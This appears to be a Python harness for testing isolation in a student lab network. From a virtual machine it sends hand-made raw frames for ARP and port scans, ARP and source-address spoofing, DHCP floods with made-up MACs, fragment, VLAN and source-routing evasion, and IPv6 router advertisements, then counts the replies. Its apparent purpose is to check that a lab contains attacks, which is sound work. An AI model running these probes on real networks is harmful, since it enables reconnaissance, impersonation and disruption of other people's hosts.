"""What a student who learns to attack tries from a VM, with counts of what came back.

attack.py attack TARGETS    tries everything; TARGETS is a JSON object, the answer another one.
                            "quick" leaves out most ports
attack.py watch TARGETS     counts frames that come in unasked, until the file STOP is there

Everything goes out as hand-made frames, so that the guest's own kernel has no say in it.
"""

import json
import os
import random
import socket
import struct
import sys
import threading
import time

STOP = "/run/attack.stop"
BROADCAST = b"\xff" * 6
ARP, IP4, IP6 = 0x0806, 0x0800, 0x86DD
ICMP, TCP, UDP, ICMP6 = 1, 6, 17, 58


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def ip4(source, target, protocol, payload, options=b"", ttl=64):
    words = 5 + len(options) // 4
    head = struct.pack("!BBHHHBBH", 0x40 | words, 0, words * 4 + len(payload),
                       random.randrange(65536), 0, ttl, protocol, 0)
    head += socket.inet_aton(source) + socket.inet_aton(target) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def with_sum(source, target, protocol, payload, at):
    pseudo = socket.inet_aton(source) + socket.inet_aton(target)
    pseudo += struct.pack("!HH", protocol, len(payload))
    return payload[:at] + struct.pack("!H", checksum(pseudo + payload)) + payload[at + 2:]


def udp(source, target, sport, dport, data, **options):
    body = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
    return ip4(source, target, UDP, with_sum(source, target, UDP, body, 6), **options)


def syn(source, target, sport, dport):
    body = struct.pack("!HHIIBBHHH", sport, dport, 7, 0, 0x50, 2, 1024, 0, 0)
    return ip4(source, target, TCP, with_sum(source, target, TCP, body, 16))


def ping(source, target, ttl=64):
    body = struct.pack("!BBHHH", 8, 0, 0, 77, 1) + b"cyyber"
    return ip4(source, target, ICMP, body[:2] + struct.pack("!H", checksum(body)) + body[4:], ttl=ttl)


def arp(operation, sender_mac, sender, target):
    return struct.pack("!HHBBH", 1, IP4, 6, 4, operation) + sender_mac + socket.inet_aton(sender) \
        + b"\0" * 6 + socket.inet_aton(target)


def link_local(of):
    return b"\xfe\x80" + b"\0" * 6 + bytes([of[0] ^ 2]) + of[1:3] + b"\xff\xfe" + of[3:]


def ip6(source, target, protocol, payload):
    pseudo = source + target + struct.pack("!IHBB", len(payload), 0, 0, protocol)
    payload = payload[:2] + struct.pack("!H", checksum(pseudo + payload)) + payload[4:]
    return struct.pack("!IHBB", 6 << 28, len(payload), protocol, 255) + source + target + payload


def dhcp(hardware):
    fixed = struct.pack("!BBBBIHH", 1, 1, 6, 0, random.getrandbits(32), 0, 0)
    return fixed + b"\0" * 16 + hardware + b"\0" * 202 + b"\x63\x82\x53\x63" + b"\x35\x01\x01\xff"


QUERY = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x04test\x06cyyber\x03lab\0\0\x01\0\x01"


class Card:
    """The network card, and everything that comes in on it."""

    def __init__(self, name):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 32 << 20)
        self.socket.bind((name, 3))
        self.mac = self.socket.getsockname()[4]
        self.seen = []
        threading.Thread(target=self.listen, daemon=True).start()

    def listen(self):
        while True:
            frame, (_, _, kind, *_) = self.socket.recvfrom(65535)
            if kind != socket.PACKET_OUTGOING:
                self.seen.append(frame)

    def send(self, target, kind, payload, source=None):
        frame = target + (source or self.mac) + struct.pack("!H", kind) + payload
        for _ in range(100):
            try:
                return self.socket.send(frame)
            except OSError:  # its queue is full
                time.sleep(0.01)

    def answers(self, wait, wanted):
        time.sleep(wait)
        seen, self.seen = self.seen, []
        return [answer for answer in map(wanted, seen) if answer is not None]


def parts(frame):
    """Protocol, sender and payload of an IPv4 packet."""
    if frame[12:14] != b"\x08\0":
        return None
    length = (frame[14] & 15) * 4
    return frame[23], socket.inet_ntoa(frame[26:30]), frame[14 + length:]


def from_port(protocol):
    """The sender and the port that an answer by a protocol comes from."""
    def wanted(frame):
        packet = parts(frame)
        if packet and packet[0] == protocol:
            return packet[1], struct.unpack("!H", packet[2][:2])[0]
        return None
    return wanted


def echo(frame):
    packet = parts(frame)
    return packet[1] if packet and packet[0] == ICMP else None


def arp_sender(frame):
    return socket.inet_ntoa(frame[28:32]) if frame[12:14] == b"\x08\x06" else None


def any_ip6(frame):
    return frame[6:12].hex() if frame[12:14] == b"\x86\xdd" else None


def count(all_of):
    counted = {}
    for one in all_of:
        key = one if isinstance(one, str) else ":".join(map(str, one))
        counted[key] = counted.get(key, 0) + 1
    return counted


def attack(t):
    card = Card(t["card"])
    me, bridge, gateway, neighbour = t["ip"], mac(t["gateway_mac"]), t["gateway"], t["neighbour"]
    other = mac(t["neighbour_mac"])
    hosts = [gateway, *t["host"]]
    found = {}

    # What must work, so that silence below means something.
    card.send(bridge, IP4, udp(me, gateway, 40000, 53, QUERY))
    found["dns"] = count(card.answers(2, from_port(UDP)))
    card.send(BROADCAST, IP4, udp("0.0.0.0", "255.255.255.255", 68, 67, dhcp(card.mac)))
    found["dhcp"] = count(card.answers(4, from_port(UDP)))
    card.send(BROADCAST, ARP, arp(1, card.mac, me, gateway))
    found["arp"] = count(card.answers(2, arp_sender))

    # Who is there?
    network = gateway.rsplit(".", 1)[0]
    for last in range(256):
        card.send(BROADCAST, ARP, arp(1, card.mac, me, f"{network}.{last}"))
    for target in [neighbour, *t["host"]]:
        card.send(BROADCAST, ARP, arp(1, card.mac, me, target))
    found["arp scan"] = count(card.answers(2, arp_sender))
    for target in [*hosts, neighbour, *t["private"]]:
        for at in (bridge, other):
            card.send(at, IP4, ping(me, target))
            card.send(at, IP4, ping(me, target, ttl=1))
    found["ping"] = count(card.answers(2, echo))

    # Which ports are open? Also the answer that one is closed is an answer.
    sport = 41000
    for target, ports in [(gateway, t["ports"] if t.get("quick") else range(1, 65536)), *((host, t["ports"]) for host in t["host"]),
                          (neighbour, t["ports"])]:
        for port in ports:
            card.send(bridge, IP4, syn(me, target, sport, port))
            if target == neighbour:
                card.send(other, IP4, syn(me, target, sport, port))
    found["tcp"] = count(card.answers(4, from_port(TCP)))
    for target in [*hosts, neighbour]:
        for port in t["ports"] if t.get("quick") else [*range(1, 1024), *t["ports"]]:
            if (target, port) != (gateway, 53):
                card.send(bridge, IP4, udp(me, target, 40001, port, b"hello"))
    for target in [f"{network}.255", "255.255.255.255", "224.0.0.251", "239.255.255.250"]:
        for port in t["ports"]:
            card.send(BROADCAST, IP4, udp(me, target, 40002, port, b"hello"))
    found["udp"] = count(card.answers(4, lambda frame: from_port(UDP)(frame) or echo(frame)))

    # In another's name.
    for _ in range(20):
        for target in (BROADCAST, bridge):
            card.send(target, ARP, arp(2, card.mac, neighbour, gateway))
            card.send(target, ARP, arp(1, card.mac, neighbour, neighbour))
            card.send(target, ARP, arp(2, other, neighbour, gateway), source=other)
        card.send(other, ARP, arp(2, card.mac, gateway, neighbour))
        card.send(bridge, IP4, udp(neighbour, gateway, 40003, 53, QUERY))
        card.send(bridge, IP4, udp(neighbour, gateway, 40003, 53, QUERY), source=other)
        card.send(bridge, IP4, udp(me, gateway, 40003, 53, QUERY), source=other)
        card.send(bridge, IP4, udp(neighbour, t["internet"], 40003, t["internet_port"], b"spoofed"))
    for _ in range(1000):
        made_up = bytes([0x52, *random.randbytes(5)])
        card.send(BROADCAST, 0x88B5, b"here I am", source=made_up)
        card.send(BROADCAST, IP4, udp("0.0.0.0", "255.255.255.255", 68, 67, dhcp(made_up)))
    found["spoofed"] = count(card.answers(4, from_port(UDP)))

    # By way of the host, or around it: source routing, fragments, VLAN tags, the bridge's protocol.
    route = b"\x01\x83\x07\x04" + socket.inet_aton(neighbour)
    for target in hosts:
        card.send(bridge, IP4, udp(me, target, 40004, 53, b"routed", options=route))
    whole = udp(me, neighbour, 40004, 53, b"x" * 64)
    for more, offset in ((0x2000, 0), (0, 3)):
        part = whole[20:44] if more else whole[44:]
        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(part), 99, more | offset, 64, UDP, 0)
        head += whole[12:20]
        card.send(bridge, IP4, head[:10] + struct.pack("!H", checksum(head)) + head[12:] + part)
    tagged = struct.pack("!HH", 1, IP4) + udp(me, neighbour, 40004, 53, b"tagged")
    card.send(other, 0x8100, tagged)
    card.send(other, IP4, udp(me, neighbour, 40004, 53, b"straight"))
    card.send(other, IP4, udp(me, neighbour, 68, 67, b"straight"))
    card.send(mac("01:80:c2:00:00:00"), 39, b"\x42\x42\x03" + b"\0" * 36)
    found["around"] = count(card.answers(2, from_port(UDP)))

    # IPv6, at which nobody looked.
    mine = link_local(card.mac)
    everyone = b"\xff\x02" + b"\0" * 13 + b"\x01"
    hello = struct.pack("!BBHHH", 128, 0, 0, 77, 1)
    for target, at in [(everyone, mac("33:33:00:00:00:01")), (link_local(other), other),
                       (link_local(bridge), bridge), (link_local(bridge), BROADCAST)]:
        card.send(at, IP6, ip6(mine, target, ICMP6, hello))
        ask = struct.pack("!BBHI", 135, 0, 0, 0) + target + b"\x01\x01" + card.mac
        card.send(mac("33:33:ff") + target[13:], IP6, ip6(mine, target, ICMP6, ask))
        advert = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + b"\x01\x01" + card.mac
        card.send(at, IP6, ip6(mine, everyone, ICMP6, advert))
    found["ip6"] = count(card.answers(2, any_ip6))

    # What is allowed: the internet, for a lab that has it. Also without a route to it.
    card.send(bridge, IP4, syn(me, t["internet"], 42000, t["internet_port"]))
    found["out"] = count(card.answers(2, from_port(TCP)))
    with socket.socket() as connection:
        connection.settimeout(5)
        try:
            connection.connect((t["internet"], t["internet_port"]))
            found["internet"] = connection.recv(100).decode()
        except OSError as error:
            found["internet"] = type(error).__name__
    return found


def watch(t):
    """Frames that a neighbour sent, or that came because of it."""
    card, caught = Card(t["card"]), []
    neighbour = socket.inet_aton(t["neighbour"])
    theirs = mac(t["neighbour_mac"])

    def wanted(frame):
        kind = frame[12:14].hex()
        # Answers to questions that were asked in our name.
        stray = kind == "0800" and frame[23] == UDP and frame[36:38] == struct.pack("!H", 40003)
        by_name = theirs in frame or link_local(theirs) in frame or neighbour in frame[14:]
        if by_name or stray:
            return f"{kind} from {frame[6:12].hex()}: {frame[14:60].hex()}"
        return None
    while not os.path.exists(STOP):
        caught += card.answers(0.2, wanted)
    return {"caught": caught}


if __name__ == "__main__":
    targets = json.loads(sys.argv[2])
    print(json.dumps({"attack": attack, "watch": watch}[sys.argv[1]](targets)))
